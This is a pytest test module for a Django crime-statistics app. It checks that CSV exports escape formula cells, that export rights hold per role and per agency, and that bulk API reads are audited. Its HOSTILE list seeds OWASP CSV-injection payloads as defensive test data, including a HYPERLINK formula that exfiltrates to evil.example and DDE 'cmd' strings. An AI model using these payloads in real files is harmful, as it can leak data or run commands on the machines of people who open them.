"""Issue 6, findings 4 and 5: formula-safe CSV everywhere, the `export` right on every export, bulk API reads.

Hostile source values (OWASP's CSV-injection payloads) are seeded where data flows into CSV cells: the
rejected rows of an import (the error report, web and command line) and area codes (upticks, hot spots).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse

from safecity.conftest import make_api_token, make_persona
from safecity.core import actions, csvsafe
from safecity.core.actors import SYSTEM
from safecity.core.models import Agency, AuditEvent, User
from safecity.core.roles import Role
from safecity.incidents.importers import ImportOptions, run_import
from safecity.incidents.models import ImportBatch
from safecity.incidents.tests.factories import make_incident, square
from safecity.incidents.tests.test_import_formats import FIXTURES
from safecity.tests.test_role_matrix import Endpoint, api_endpoints, url_endpoints

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]
AS_OF = "2026-06-17"
STATS = ["stats_compstat", "stats_trends", "stats_upticks", "stats_hotspots", "stats_near_repeat", "stats_firearm"]


def hostile_chicago(tmp_path: Path) -> Path:
    """chicago_sample.csv with one good row and one row per hostile value in the Date column (each rejected)."""
    lines = (FIXTURES / "chicago_sample.csv").read_text(encoding="utf-8").splitlines()
    rows = list(csv.reader(lines))
    header, good = rows[0], rows[1]
    date = header.index("Date")
    out = io.StringIO()
    w = csv.writer(out)
    w.writerow(header)
    w.writerow(good)
    for i, value in enumerate(HOSTILE):
        bad = list(good)
        bad[header.index("Case Number")] = f"JX{i:06d}"
        bad[header.index("ID")] = str(99000000 + i)
        bad[date] = value
        w.writerow(bad)
    path = tmp_path / "hostile.csv"
    path.write_text(out.getvalue(), encoding="utf-8")
    return path


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_safe(text: str, where: str) -> None:
    bad = [c for c in cells(text) if csvsafe.is_dangerous(c)]
    assert not bad, f"{where}: formula cells {bad}"


@pytest.fixture
def hostile_world(agency_a: Agency, tmp_path: Path) -> dict[str, Any]:
    """Agency A whose district and beat codes are formulas, incidents in them, and a hostile import batch."""
    district = actions.district_save(actor=SYSTEM, agency=agency_a, code="@SUM(1+1)", name="=1+1 District",
                                     geometry=square(-89.7, 39.7, 0.02), population=50_000)
    beat = actions.beat_save(actor=SYSTEM, district=district, code="-1+cmd|'/C calc'", name="+Beat",
                             geometry=square(-89.7, 39.7, 0.02), population=50_000)
    day = dt.date(2026, 6, 10)  # the last one on AS_OF: an as-of after the data on file is refused
    incident = None
    for i in range(8):
        incident = make_incident(agency_a, day + dt.timedelta(days=i), [("13A", ["12"])], [(["13A"], False, True)],
                                 beat=beat, lon=-89.695 + i * 0.0005, lat=39.705)
    make_incident(agency_a, dt.date(2025, 6, 3), [("120", [])], beat=beat, lon=-89.69, lat=39.71)
    batch = run_import(ImportOptions(path=hostile_chicago(tmp_path), agency=agency_a, fmt="chicago",
                                     file_name="hostile.csv")).batch
    assert batch.rows_rejected >= len(HOSTILE)
    target = actions.user_create(actor=SYSTEM, username="target", email="t@example.org", password=None,
                                 home_agency=agency_a)
    assert incident is not None
    from safecity.tests.policing_world import policing_world

    return {**policing_world(agency_a, beat, tmp_path),
            "public_id": incident.public_id, "incident_id": incident.public_id, "batch_id": batch.pk,
            "core:manage_user:pk": target.pk, "core:token_revoke:pk": 999_999, "token_id": 999_999,
            "ori": agency_a.ori, "modules": ["policing"], "batch": batch}


# ---- finding 4: formula injection ----------------------------------------------------------------------


@pytest.mark.parametrize("value", HOSTILE)
def test_writer_neutralises_owasp_payloads(value: str) -> None:
    text, _ = csvsafe.render(["value"], [[value]])
    assert cells(text)[1] == "'" + value


def test_writer_keeps_numbers_numeric() -> None:
    text, n = csvsafe.render(["a", "b", "c", "d", "e"], [[-47.1, -3, "-47.1", "+3", "-1.5e3"], [0, None, "", "x", "#"]])
    assert n == 2 and text.splitlines()[1] == "-47.1,-3,-47.1,+3,-1.5e3" and text.splitlines()[2] == "0,,,x,#"


def test_no_csv_writer_outside_the_safe_one() -> None:
    """New code cannot write CSV around `core.csvsafe` (the walk below only sees today's endpoints)."""
    src = Path(__file__).resolve().parents[2]
    offenders = [str(p.relative_to(src)) for p in src.rglob("*.py")
                 if "tests" not in p.parts and p.name != "csvsafe.py"
                 and any(s in p.read_text(encoding="utf-8") for s in ("csv.writer", "csv.DictWriter", "DictWriter("))]
    assert offenders == []


def test_error_report_web_and_cli_neutralise_source_values(hostile_world: dict[str, Any], agency_a: Agency,
                                                           ann_analyst: User, tmp_path: Path,
                                                           signed_in: Callable[[User], Client]) -> None:
    response = signed_in(ann_analyst).get(reverse("incidents_import:errors_csv", args=[hostile_world["batch_id"]]))
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    web = response.content.decode()
    from safecity.cli import main

    report = tmp_path / "errors.csv"
    main(["import", "incidents", str(hostile_chicago(tmp_path)), "--agency", agency_a.ori, "--format", "chicago",
          "--dry-run", "--error-report", str(report)])
    for where, text in (("web errors.csv", web), ("command-line error report", report.read_text(encoding="utf-8"))):
        assert_safe(text, where)
        values = cells(text)
        for value in HOSTILE:  # the importer trims surrounding white space from source values
            assert "'" + value.strip() in values, (where, value)


def test_every_csv_endpoint_neutralises_cells(hostile_world: dict[str, Any], agency_a: Agency) -> None:
    """Walk every URL and API operation; every text/csv answer must carry no formula cell."""
    admin = make_persona("csv_admin", agency_a, Role.ADMIN)
    client = Client()
    client.force_login(admin)
    from django_otp.plugins.otp_totp.models import TOTPDevice

    device = TOTPDevice.objects.create(user=admin, name="t", confirmed=True)
    session = client.session
    session["otp_device_id"] = device.persistent_id
    session.save()
    endpoints: list[Endpoint] = url_endpoints(hostile_world) + api_endpoints(client, hostile_world)
    csv_answers: dict[str, str] = {}
    for e in endpoints:
        if e.method != "GET" or e.name in {"core:logout"}:
            continue
        r = client.get(e.path, {"as_of": AS_OF, "level": "all"})
        if r.status_code == 200 and r["Content-Type"].startswith("text/csv"):
            body = b"".join(r.streaming_content) if r.streaming else r.content  # type: ignore[arg-type]
            csv_answers[e.name] = body.decode()
    expected = {f"incidents:{p}_csv" for p in STATS} | {"incidents_import:errors_csv"}
    assert expected <= set(csv_answers), f"CSV endpoints missing from the walk: {expected - set(csv_answers)}"
    declared_csv = {e.name for e in url_endpoints(hostile_world) if e.path.endswith(".csv")}
    assert declared_csv <= set(csv_answers)
    for name, text in csv_answers.items():
        assert_safe(text, name)
    seeded = csv_answers["incidents:stats_upticks_csv"] + csv_answers["incidents:stats_hotspots_csv"]
    assert "'-1+cmd|'/C calc'" in cells(seeded) and "'@SUM(1+1)" in cells(seeded)


def test_error_report_download_is_audited(hostile_world: dict[str, Any], ann_analyst: User,
                                          signed_in: Callable[[User], Client]) -> None:
    before = AuditEvent.objects.filter(action="export").count()
    signed_in(ann_analyst).get(reverse("incidents_import:errors_csv", args=[hostile_world["batch_id"]]))
    events = AuditEvent.objects.filter(action="export").order_by("seq")
    assert events.count() == before + 1
    event = events.last()
    assert event is not None and event.object_type == "incidents.import_errors"
    rejected = hostile_world["batch"].rows_rejected
    assert event.extra == {"rows": rejected, "format": "csv"} and event.actor_name == "ann"


# ---- finding 5: the export right ---------------------------------------------------------------------


@pytest.mark.parametrize("role", [Role.OFFICER, Role.ERPO, Role.OVERSIGHT, Role.INTEL])
def test_roles_without_export_download_nothing(role: str, hostile_world: dict[str, Any], agency_a: Agency,
                                               signed_in: Callable[[User], Client]) -> None:
    client = signed_in(make_persona(f"no_export_{role}", agency_a, role))
    before = AuditEvent.objects.filter(action="export").count()
    urls = [reverse(f"incidents:{p}_csv") for p in STATS] + [
        reverse("incidents:stats_compstat_pdf"), reverse("incidents_import:errors_csv",
                                                          args=[hostile_world["batch_id"]])]
    for url in urls:
        r = client.get(url, {"as_of": AS_OF})
        assert r.status_code == 403 and not r["Content-Type"].startswith(("text/csv", "application/pdf")), url
    for page in STATS:  # the `?format=csv` spelling of the same download
        r = client.get(reverse(f"incidents:{page}"), {"as_of": AS_OF, "format": "csv"}, follow=True)
        assert r.status_code == 403 and not r["Content-Type"].startswith("text/csv"), page
    assert AuditEvent.objects.filter(action="export").count() == before
    assert AuditEvent.objects.filter(action="permission.denied", actor_name=f"no_export_{role}").count() >= len(urls)
    result = client.get(reverse("incidents_import:result", args=[hostile_world["batch_id"]]))
    assert result.status_code == 200 and urls[-1] not in result.content.decode()  # no dead download link


def test_command_staff_may_export(hostile_world: dict[str, Any], agency_a: Agency,
                                 signed_in: Callable[[User], Client]) -> None:
    client = signed_in(make_persona("carla", agency_a, Role.COMMAND))
    for page in STATS:
        r = client.get(reverse(f"incidents:{page}_csv"), {"as_of": AS_OF})
        assert r.status_code == 200 and r["Content-Type"].startswith("text/csv"), page
    assert client.get(reverse("incidents:stats_compstat_pdf"), {"as_of": AS_OF}).status_code == 200
    moved = client.get(reverse("incidents:stats_trends"), {"as_of": AS_OF, "format": "csv"})
    assert moved.status_code == 302 and moved["Location"].startswith(reverse("incidents:stats_trends_csv"))


def test_export_right_is_per_agency(hostile_world: dict[str, Any], agency_a: Agency, agency_b: Agency,
                                    signed_in: Callable[[User], Client]) -> None:
    """Analyst at B (may export there) and officer at A (may only read there) cannot export A's numbers."""
    user = make_persona("mixed", agency_b, Role.ANALYST)
    actions.role_grant(actor=SYSTEM, user=user, agency=agency_a, role=Role.OFFICER)
    client = signed_in(User.objects.get(pk=user.pk))
    page = client.get(reverse("incidents:stats_compstat"), {"agency": agency_a.ori, "as_of": AS_OF})
    assert page.status_code == 200
    for name in ("incidents:stats_compstat_csv", "incidents:stats_compstat_pdf"):
        assert client.get(reverse(name), {"agency": agency_a.ori, "as_of": AS_OF}).status_code == 403, name
    errors = client.get(reverse("incidents_import:errors_csv", args=[hostile_world["batch_id"]]))
    assert errors.status_code == 403


# ---- finding 5: bulk API reads ---------------------------------------------------------------------------


def bearer(user: User) -> dict[str, str]:
    return {"HTTP_AUTHORIZATION": f"Bearer {make_api_token(user, name='bulk', days=7)}"}


def test_bulk_api_reads_need_export_and_are_audited(hostile_world: dict[str, Any], olivia_officer: User,
                                                    ann_analyst: User, client: Client) -> None:
    officer, analyst = bearer(olivia_officer), bearer(ann_analyst)
    batch = hostile_world["batch_id"]
    before = AuditEvent.objects.filter(action="export").count()
    assert client.get("/api/v1/incidents/", **officer).status_code == 200  # the first page is a read
    assert client.get(f"/api/v1/imports/{batch}/errors", **officer).status_code == 200
    assert AuditEvent.objects.filter(action="export").count() == before
    for query in ({"offset": 1}, {"limit": 101}, {"offset": 50, "limit": 10}):
        for url in ("/api/v1/incidents/", f"/api/v1/imports/{batch}/errors"):
            r = client.get(url, query, **officer)
            assert r.status_code == 403 and r.json()["error"]["code"] == "forbidden", (url, query)
    assert AuditEvent.objects.filter(action="export").count() == before
    r = client.get("/api/v1/incidents/", {"offset": 1, "limit": 5}, **analyst)
    assert r.status_code == 200 and len(r.json()["items"]) == 5
    event = AuditEvent.objects.filter(action="export").order_by("-seq").first()
    assert event is not None and event.object_type == "incidents.incident" and event.actor_name == "ann"
    assert event.extra == {"rows": 5, "format": "json"} and "offset=1" in event.purpose


def test_bulk_read_lists_only_what_may_be_exported(hostile_world: dict[str, Any], agency_a: Agency,
                                                   agency_b: Agency, client: Client) -> None:
    user = make_persona("mixed", agency_b, Role.ANALYST)
    actions.role_grant(actor=SYSTEM, user=user, agency=agency_a, role=Role.OFFICER)
    make_incident(agency_b, dt.date(2026, 6, 2), [("120", [])])
    auth = bearer(User.objects.get(pk=user.pk))
    first = client.get("/api/v1/incidents/", **auth).json()
    assert first["count"] == 10  # reading: both agencies
    bulk = client.get("/api/v1/incidents/", {"offset": 0, "limit": 200}, **auth).json()
    assert bulk["count"] == 1 and {i["agency"] for i in bulk["items"]} == {agency_b.ori}
    assert ImportBatch.objects.count() == 1
